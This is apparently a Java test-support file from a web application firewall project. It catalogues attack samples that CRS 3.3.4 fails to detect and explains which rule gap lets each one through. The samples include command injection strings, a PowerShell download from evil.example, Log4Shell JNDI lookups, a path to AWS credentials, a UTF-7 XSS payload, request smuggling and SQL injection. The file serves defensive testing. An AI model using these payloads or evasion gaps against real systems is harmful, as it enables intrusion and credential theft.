package io.caracal.waf.crs.internal;

import java.util.Map;

/**
 * Attack samples that are not detected, with the reason: all but the last are not detected by
 * CRS 3.3.4 at paranoia level 1 itself (libmodsecurity 3 with the same rules gives the same
 * result). Each entry is keyed by the sample's label ({@code placement payload}, or a request
 * file's description). The attack corpus test fails when one of them is detected after all, so
 * the list stays true.
 */
final class KnownMisses {

    private static final Map<String, String> REASONS = Map.ofEntries(
            // Command injection: 932100/932105 need a command from their lists followed by a space
            // or redirection, 932150 needs the command at the start or after '='.
            Map.entry("query | id", "'id' ends the value: 932100 needs whitespace or <> after a command name"),
            Map.entry("query `id`", "backticks are separators to 932100/932105, but 'id' is followed by '`', not"
                    + " whitespace; 932130 only knows $(...), ${...} and <(...)"),
            Map.entry("query cmd.exe /c dir", "the Windows rules 932110/932115 need a separator (; | & ...) before the"
                    + " command, and 932150 only lists Unix commands"),
            Map.entry("query powershell -enc SQBFAFgA", "windows-powershell-commands.data lists 'powershell.exe',"
                    + " not 'powershell'"),
            Map.entry("form Invoke-WebRequest -Uri http://evil.example/x.ps1", "Invoke-WebRequest is not in this"
                    + " release's windows-powershell-commands.data"),
            // File access
            Map.entry("multipart /root/.aws/credentials", "lfi-os-files.data (930120, arguments) has no .aws/"
                    + " entries; restricted-files.data has them, but 930130 only looks at REQUEST_FILENAME"),
            // Log4Shell: CRS 3.3.4 as Debian ships it has no JNDI lookup rule (944150 came later), and the
            // shell-expression rule 932130 does not look at headers.
            Map.entry("ua ${jndi:ldap://evil.example/a}", "no JNDI rule in this CRS release; 932130 reads arguments,"
                    + " cookies and XML, not headers"),
            Map.entry("header:X-Api-Version ${jndi:ldap://evil.example/x}", "no JNDI rule in this CRS release;"
                    + " 932130 reads arguments, cookies and XML, not headers"),
            // XSS
            Map.entry("query +ADw-script+AD4-alert(1)+ADw-/script+AD4-", "941350 (UTF-7) applies t:urlDecodeUni"
                    + " and t:urlDecode first, which turn '+' into a space, so '+ADw-' only survives when the client"
                    + " sent it encoded twice"),
            // Protocol
            Map.entry("two Content-Length headers", "no CRS rule counts Content-Length fields, and each value is"
                    + " a valid number for 920160; Apache merges the fields to '4, 40' (which 920160 rejects),"
                    + " libmodsecurity keeps them apart as here"),
            // Not a CRS miss: Caracal's @detectSQLi differs from libinjection here.
            Map.entry("json ' OR username LIKE '%admin%", "CRS with libinjection detects this (942100); Caracal's"
                    + " SQL injection detector does not accept a column LIKE an open string as a condition, to spare"
                    + " prose such as \"... or something like 'this\" (SqlConditionChain.decide)"));

    private KnownMisses() {
    }

    /** Why the sample is not detected, or null when it must be. */
    static String reason(String label) {
        return REASONS.get(label);
    }

    static int size() {
        return REASONS.size();
    }
}
